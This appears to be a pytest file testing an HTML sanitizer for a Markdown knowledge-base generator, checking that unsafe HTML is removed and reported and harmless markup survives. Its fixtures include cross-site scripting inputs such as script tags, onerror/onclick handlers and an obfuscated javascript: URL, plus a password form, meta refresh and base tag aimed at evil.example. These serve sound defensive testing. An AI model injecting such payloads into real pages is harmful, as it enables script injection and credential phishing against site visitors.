"""HTML in Markdown: dangerous constructs are removed and reported, harmless HTML survives."""

from __future__ import annotations

import markdown
import pytest

from kbgen.core.sanitize import Removal, find_unsafe_html, sanitize_html

# (html, cleaned html, removals)
DANGEROUS = [
    ("<p>Hi<script>alert(1)</script></p>", "<p>Hi</p>", [("<script> element", 1)]),
    ("<script src=x.js></script><p>a</p><script>b()</script>", "<p>a</p>",
     [("<script> element", 2)]),
    ('<img src="a.png" alt="A" onerror="alert(1)">', '<img src="a.png" alt="A">',
     [("onerror= attribute", 1)]),
    ('<p onclick="steal()">Tap</p>', "<p>Tap</p>", [("onclick= attribute", 1)]),
    ('<a href="javascript:alert(1)">Reset</a>', "<a>Reset</a>", [("javascript: URL", 1)]),
    ('<a href=" JaVa&#x09;Script:alert(1)">Reset</a>', "<a>Reset</a>", [("javascript: URL", 1)]),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>", [("vbscript: URL", 1)]),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">', '<img alt="x">',
     [("data: URL", 1)]),
    ('<p>Video:</p><iframe src="https://video.example/embed/1"></iframe>', "<p>Video:</p>",
     [("<iframe> element", 1)]),
    ('<object data="x.swf"></object><embed src="x.swf">', "",
     [("<object> element", 1), ("<embed> element", 1)]),
    (('<form action="https://evil.example/collect"><input type="password" name="pw">'
     "<button>Log in</button></form>"),
     '<input type="checkbox">Log in',
     [("<form> element", 1), ("<input> element", 1), ("name= attribute", 1),
      ("<button> element", 1)]),
    ('<p style="position:fixed;top:0">x</p>', "<p>x</p>", [("style attribute", 1)]),
    ("<style>body{display:none}</style><p>x</p>", "<p>x</p>", [("<style> element", 1)]),
    (('<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet '
     'href=x.css><base href="https://evil.example/">ok'), "ok",
     [("<meta> element", 1), ("<link> element", 1), ("<base> element", 1)]),
    ('<a href="https://hearthly.example" target="_blank">x</a>',
     '<a href="https://hearthly.example">x</a>', [("target= attribute", 1)]),
]

SURVIVES = [
    '<p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>',
    ('<p><span class="keys"><kbd class="key-control">Ctrl</kbd><span>+</span>'
    '<kbd class="key-c">C</kbd></span></p>'),
    '<details class="tip" open=""><summary>More</summary><p>Hidden text.</p></details>',
    ('<table><caption>Lights</caption><thead><tr><th align="left" scope="col">Light</th>'
    '<th align="right">Meaning</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">Red'
    "</td></tr></tbody></table>"),
    "<p>First line<br>second line</p><hr>",
    ('<div class="highlight"><pre><span></span><code><span class="nb">print</span>'
    '<span class="p">(</span><span class="s2">"hi"</span><span class="p">)</span></code></pre>'
    "</div>"),
    ('<h2 id="resolution">Resolution<a class="headerlink" href="#resolution" '
    'title="Permanent link">¶</a></h2>'),
    ('<div class="admonition note"><p class="admonition-title">Note</p><p>Keep the app open.</p>'
    "</div>"),
    ('<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
    '<input disabled="" checked="" type="checkbox"><span class="task-list-indicator"></span>'
    "</label> Unplug the hub</li></ul>"),
    ('<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">'
    '<path d="M12 2 2 22h20z"></path></svg></span>'),
    ('<p><a href="../billing/refund.html" rel="tag" data-slug="refund" aria-label="Refunds">'
    'Refunds</a>, <a href="mailto:support@hearthly.example">mail</a>, '
    '<a href="tel:+442079460958">call</a></p>'),
    '<img src="img/hub.png" alt="Hub" title="Front" width="320" height="200" loading="lazy">',
    ('<p><abbr title="Wireless">Wi-Fi</abbr> <mark>new</mark> <del>old</del> <ins>new</ins> '
    "H<sub>2</sub>O x<sup>2</sup> <time datetime=\"2026-11-23\">23 Nov</time></p>"),
    ('<dl><dt>LED</dt><dd>Light</dd></dl><blockquote><p>Quote</p></blockquote>'
    '<ol start="3"><li>Three</li></ol>'),
    ('<figure class="photo"><img src="a.png" alt="a"><figcaption>Hub</figcaption></figure>'
    '<section role="note" id="s1"><aside class="x"><nav><address>Hearthly Ltd</address>'
    "</nav></aside></section>"),
]

# (markdown, first line, expected (line, construct) pairs)
UNSAFE_IN_MARKDOWN = [
    ("Click [here](javascript:alert(1)).", 1, [(1, "javascript: URL")]),
    ("# Title\n\n![x](data:image/png;base64,AAAA)", 10, [(12, "data: URL")]),
    ("Text\n<script>alert(1)</script>", 1, [(2, "<script> element")]),
    ('<div style="color:red" onclick="x()">hi</div>', 1,
     [(1, "onclick= attribute"), (1, "style attribute")]),
    ('Intro\n<a\n  href="vbscript:msgbox">multi-line tag</a>', 1, [(2, "vbscript: URL")]),
    ("[ref]: javascript:alert(2)\n\nSee [x][ref].", 1, [(1, "javascript: URL")]),
    ('<iframe src="https://v.example"></iframe>\n<form><input type="text"></form>', 1,
     [(1, "<iframe> element"), (2, "<form> element"), (2, "<input> element")]),
    ("```html\n<script>bad()</script>\n<img src=x onerror=alert(1)>\n```\nafter", 1, []),
    ("~~~~\n<iframe></iframe>\n```\n<script></script>\n~~~~\n<script></script>", 1,
     [(6, "<script> element")]),
    ("Write `<script>` or ``<iframe src=x>`` in code, `[x](javascript:y)`.", 1, []),
    ("- [x] done\n<!-- <script>hidden</script> -->\n<input type=\"checkbox\">", 1, []),
    ("[refund](../billing/refund.md) [mail](mailto:a@b.example) <https://example.com>", 1, []),
    (('<img src="hub.png" alt="Hub"> <kbd>Ctrl</kbd> <details open><summary>s</summary>'
     "</details>"), 1, []),
]


@pytest.mark.parametrize("html, cleaned, removals", DANGEROUS)
def test_dangerous_html_is_removed_and_reported(html: str, cleaned: str,
                                                removals: list[tuple[str, int]]) -> None:
    assert sanitize_html(html) == (cleaned, [Removal(*removal) for removal in removals])


@pytest.mark.parametrize("html", SURVIVES)
def test_harmless_html_survives(html: str) -> None:
    assert sanitize_html(html) == (html, [])


@pytest.mark.parametrize("html, cleaned, removals", [
    ('<input type="checkbox" checked>', '<input checked="" type="checkbox">', []),
    ('<input name="q" disabled>', '<input disabled="" type="checkbox">',
     [Removal("<input> element", 1), Removal("name= attribute", 1)]),
    ('<input type="file" formaction="https://evil.example">', '<input type="checkbox">',
     [Removal("<input> element", 1), Removal("formaction= attribute", 1)]),
])
def test_every_input_becomes_a_checkbox(html: str, cleaned: str,
                                        removals: list[Removal]) -> None:
    assert sanitize_html(html) == (cleaned, removals)


def test_our_markdown_stack_survives() -> None:
    source = (
        "# Reset the hub\n\n!!! note \"Before you start\"\n    Keep the app open.\n\n"
        "| Step | Time |\n|:--|--:|\n| Press **reset** | 10 s |\n\n"
        "- [x] Unplug the hub\n- [ ] Plug it back in\n\n"
        "Press ++ctrl+alt+del++ and ==look== here[^1].\n\n??? tip \"More\"\n    Hidden.\n\n"
        "```python\nprint('hi')\n```\n\nTerm\n:   Definition\n\n{ .lead }\n\n[^1]: A note.\n"
    )
    extensions = ["admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables",
                  "toc", "pymdownx.details", "pymdownx.superfences", "pymdownx.keys",
                  "pymdownx.mark", "pymdownx.tasklist", "pymdownx.highlight"]
    config = {"toc": {"permalink": True}, "pymdownx.tasklist": {"custom_checkbox": True},
              "tables": {"use_align_attribute": True}}
    html = markdown.markdown(source, extensions=extensions, extension_configs=config)
    cleaned, removals = sanitize_html(html)
    assert removals == []
    assert cleaned.count("<input") == html.count("<input") == 2
    assert 'class="admonition note"' in cleaned and '<th align="right">' in cleaned


def test_python_markdown_default_table_alignment_is_a_style_attribute() -> None:
    html = markdown.markdown("| a |\n|--:|\n| 1 |", extensions=["tables"])
    assert sanitize_html(html)[1] == [Removal("style attribute", 2)]


@pytest.mark.parametrize("source, first_line, expected", UNSAFE_IN_MARKDOWN)
def test_find_unsafe_html(source: str, first_line: int,
                          expected: list[tuple[int, str]]) -> None:
    assert find_unsafe_html(source, first_line) == expected
